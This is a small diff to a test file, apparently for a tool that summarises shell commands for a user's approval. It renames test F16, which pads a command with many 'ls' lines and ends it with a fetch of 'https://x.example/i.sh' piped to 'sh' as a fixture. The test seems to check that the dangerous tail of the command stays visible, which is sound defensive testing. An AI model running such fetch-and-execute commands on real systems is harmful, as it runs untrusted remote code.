@@ -100,7 +100,7 @@ describe("the head of a question", () => {
     expect(lines.indexOf("  described as: Lists files")).toBeGreaterThan(0);
   });
 
-  it("F16 of a long command is its strongest parts, at the end once more", () => {
+  it("F16 shows the strongest parts of a long command, at the end once more", () => {
     const many = Array.from({ length: 20 }, (_, index) => `ls -la some/rather/long/folder/${index}`);
     const command = [...many, fetched].join("\n");
     const effects = [...many.map((text) => run(text, false)), run("sh"), run("curl https://x.example/i.sh")];
